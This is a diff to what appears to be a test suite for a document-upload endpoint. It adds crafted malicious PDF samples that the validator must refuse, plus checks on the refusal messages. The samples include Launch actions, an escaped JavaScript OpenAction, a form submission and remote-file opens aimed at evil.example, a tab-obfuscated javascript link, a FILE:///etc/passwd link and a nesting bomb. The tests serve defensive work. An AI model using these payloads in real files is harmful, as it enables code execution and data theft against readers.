@@ -182,12 +182,33 @@ describe('POST /uploader/docs', () => {
     await newOwner()
     const before = [await countRows(), await countBlobs()]
     const launch = '<</S/Launch/F(a.exe)>>'
+    const link = (address: string) => `<</S/URI/URI(${address})>>`
+    const indirectly = (catalogue: string, object: string) =>
+      Buffer.from(
+        pdfFile('a', catalogue)
+          .toString()
+          .replace('trailer', () => `5 0 obj\n${object}\nendobj\ntrailer`),
+      )
     const bad: [string, Buffer][] = [
       ['a head without a body', Buffer.from('%PDF-1.7\nplain text\n%%EOF\n')],
       ['a script at opening', pdfFile('a', '/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>')],
       ['a script by another spelling', pdfFile('a', '/OpenAction<</S/J#61vaScript/J#53(app.alert\\(1\\))>>')],
       ['a program to start', pdfFile('a', `/AA<</O[${launch}]>>`)],
       ['an attachment', pdfFile('a', '/Names<</EmbeddedFiles<</Names[(a.exe)<</Type/Filespec/EF<<>>>>]>>>>')],
+      ['an action by reference', indirectly('/OpenAction<</S 5 0 R/F(a.exe)>>', '/Launch')],
+      ['another file that opens', pdfFile('a', '/OpenAction<</S/GoToR/F(//evil.example/a.pdf)/D[0/Fit]>>')],
+      ['an embedded file that opens', pdfFile('a', '/OpenAction<</S/GoToE/D[0/Fit]/T<</R/C/N(a)>>>>')],
+      ['a form that is sent', pdfFile('a', '/AcroForm<</Fields[]/A<</S/SubmitForm/F(https://evil.example)>>>>')],
+      ['an XFA form', pdfFile('a', '/AcroForm<</Fields[]/XFA[(a)(b)]>>')],
+      ['a page that opens by itself', pdfFile('a', '/OpenAction<</S/URI/URI(https://evil.example)>>')],
+      [
+        'one opened after another action',
+        pdfFile('a', `/AA<</WC<</S/Named/N/Print/Next[${link('https://a.example')}]>>>>`),
+      ],
+      ['one opened by reference', indirectly('/OpenAction 5 0 R', link('https://evil.example'))],
+      ['a link to a script', pdfFile('a', `/X<</A${link('java\\tscript:alert\\(1\\)')}>>`)],
+      ['a link to a file', pdfFile('a', `/X<</A${link('FILE:///etc/passwd')}>>`)],
+      ['a link without an address', pdfFile('a', '/X<</A<</S/URI>>>>')],
       ['nesting without end', pdfFile('a', `/A${'['.repeat(10_000)}${']'.repeat(10_000)}`)],
       ['no page', Buffer.from(pdfFile().toString().replace('[3 0 R]/Count 1', '[]/Count 0'))],
     ]
@@ -196,6 +217,19 @@ describe('POST /uploader/docs', () => {
       expect([what, status, code]).toEqual([what, 422, 'document_refused'])
     }
     expect([await countRows(), await countBlobs()]).toEqual(before)
+    const links = ['https://example.com', 'http://example.com', 'mailto:a@example.com', 'tel:010', 'www.example.com']
+    const content = pdfFile('a', `/OpenAction[3 0 R/Fit]/X[${links.map(link).join('')}]`)
+    expect((await uploadDocuments(server, owner, [{ name: '이력서.pdf', content }])).status, 'links').toBe(200)
+  })
+
+  test('[A-38] a refused PDF says what it contains and how to mend it', async () => {
+    await newOwner()
+    const said = async (catalogue: string) =>
+      (await uploadDocuments(server, owner, [{ name: '서류.pdf', content: pdfFile('a', catalogue) }])).message
+    expect(await said('/OpenAction<</S/JavaScript/JS(this.print\\(true\\))>>')).toContain('인쇄할 때 저절로 실행되는')
+    expect(await said('/AF[<</Type/Filespec/EF<<>>>>]')).toContain('전자세금계산서')
+    expect(await said('/AcroForm<</XFA[]>>')).toContain('양식')
+    expect(await said('/OpenAction<</S/URI/URI(https://evil.example)>>')).toContain('저절로 여는')
   })
 
   test('[A-38] 50 MB and not a byte more', async () => {
